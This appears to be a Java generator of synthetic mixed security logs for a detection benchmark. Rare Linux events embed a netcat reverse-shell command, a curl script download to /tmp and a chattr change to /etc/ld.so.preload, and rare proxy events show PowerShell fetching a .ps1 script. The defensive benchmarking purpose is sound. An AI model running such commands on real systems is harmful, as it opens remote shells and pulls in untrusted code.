package io.tripline.bench.compare;

/** Five logs in turns by chance: Windows and Linux processes, CloudTrail, Okta, a proxy. Each event says its log. */
final class MixedLogs implements Maker {

    private final Words words;
    private final ProcessStarts windows;
    private final CloudLogs cloud;
    private long time = Words.START;

    MixedLogs(long seed) {
        words = new Words(seed);
        windows = new ProcessStarts(seed + 1, 0.01, Log.WINDOWS_PROCESS);
        cloud = new CloudLogs(seed + 2, 0.01);
    }

    @Override
    public void next(StringBuilder out) {
        time += 10;
        switch (words.below(5)) {
            case 0 -> windows.next(out);
            case 1 -> cloud.cloudTrail(out);
            case 2 -> cloud.okta(out);
            case 3 -> linux(out);
            default -> proxy(out);
        }
    }

    private void linux(StringBuilder out) {
        boolean rare = words.chance(0.01);
        String image = rare
                ? words.of("/usr/bin/curl", "/usr/bin/chattr", "/usr/bin/nc")
                : "/usr/bin/" + words.of("ls", "cp", "sed", "git", words.word());
        String arguments = rare
                ? words.of(
                        "-i /etc/ld.so.preload",
                        "-e /bin/bash " + words.address() + " 4444",
                        "http://" + words.address() + "/x.sh -o /tmp/x.sh")
                : "--" + words.word() + " /srv/" + words.word() + "/" + words.word();
        Log.LINUX_PROCESS
                .writeTo(new Json(out).text("@timestamp", Words.time(time)))
                .text("Computer", "host" + words.below(300))
                .text("User", words.of("root", "www-data", words.word()))
                .text("Image", image)
                .text("CommandLine", image + " " + arguments)
                .text("CurrentDirectory", "/srv/" + words.word())
                .text("ParentImage", words.of("/usr/bin/bash", "/usr/sbin/cron", "/usr/lib/systemd/systemd"))
                .text("ParentCommandLine", "bash -c " + words.word())
                .number("ProcessId", words.below(30_000))
                .endLine();
    }

    private void proxy(StringBuilder out) {
        boolean rare = words.chance(0.01);
        String host = words.word() + "." + words.of("com", "org", "net", "example");
        Log.PROXY
                .writeTo(new Json(out).text("@timestamp", Words.time(time)))
                .text("c-ip", words.address())
                .text("cs-username", words.word())
                .text("cs-method", words.of("GET", "POST", "CONNECT"))
                .text("cs-host", rare ? "raw.githubusercontent.com" : host)
                .text("c-uri", "https://" + host + "/" + words.word() + "/" + words.word() + (rare ? ".ps1" : ".html"))
                .text("c-uri-extension", rare ? "ps1" : "html")
                .text(
                        "c-useragent",
                        rare
                                ? "WindowsPowerShell/5.1"
                                : "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/12" + words.below(9))
                .number("sc-status", words.below(10) == 0 ? 404 : 200)
                .number("sc-bytes", words.below(900_000))
                .endLine();
    }
}
